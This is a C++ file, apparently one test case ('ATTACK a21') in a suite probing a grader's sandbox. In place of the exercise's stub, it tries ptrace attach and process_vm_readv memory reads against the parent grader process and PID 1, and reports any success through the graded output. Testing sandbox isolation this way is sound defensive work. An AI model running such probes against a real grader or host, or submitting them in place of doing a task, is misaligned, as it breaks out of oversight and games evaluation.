// ATTACK a21: ptrace and process_vm_readv against the process's parent (the sandbox's init, or
// the grader itself without a sandbox) and against PID 1: PTRACE_ATTACH (detached again right
// away) and a 4 KB process_vm_readv of the parent's stack. If any of them succeeds, the
// coroutine returns "ESCAPED:ptrace ..." so the failure message shows it. Started from the stub.
#include "api.hpp"

// The untouched stub of exercise 03: an honest score would be 0.
aio::task<std::string> hello_async_stub([[maybe_unused]] std::string result) {
    co_return "";  // TODO: 지우고 위 내용을 작성하세요
}

#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <string>

namespace {

std::string attack() {
    std::string escaped;
    for (pid_t target : {::getppid(), pid_t(1)}) {
        if (target <= 0 || target == ::getpid()) continue;
        if (::ptrace(PTRACE_ATTACH, target, nullptr, nullptr) == 0) {
            escaped += "ESCAPED:ptrace attached to pid " + std::to_string(target) + "\n";
            ::waitpid(target, nullptr, __WALL);
            ::ptrace(PTRACE_DETACH, target, nullptr, nullptr);
        }
        // Any readable address of the target will do: try the start of its stack mapping.
        char buf[64];
        iovec local{buf, sizeof buf};
        char path[64];
        std::snprintf(path, sizeof path, "/proc/%d/maps", int(target));
        if (FILE* maps = std::fopen(path, "r")) {
            char line[512];
            unsigned long lo = 0, hi = 0;
            while (std::fgets(line, sizeof line, maps))
                if (std::sscanf(line, "%lx-%lx", &lo, &hi) == 2) {
                    iovec remote{reinterpret_cast<void*>(lo), sizeof buf};
                    if (::process_vm_readv(target, &local, 1, &remote, 1, 0) > 0) {
                        escaped += "ESCAPED:process_vm_readv read pid " + std::to_string(target) + "\n";
                        break;
                    }
                }
            std::fclose(maps);
        }
    }
    return escaped;
}

}  // namespace

aio::task<std::string> hello_async(std::string result) {
    static const std::string escaped = attack();
    if (!escaped.empty()) co_return escaped;
    co_return co_await hello_async_stub(result);
}
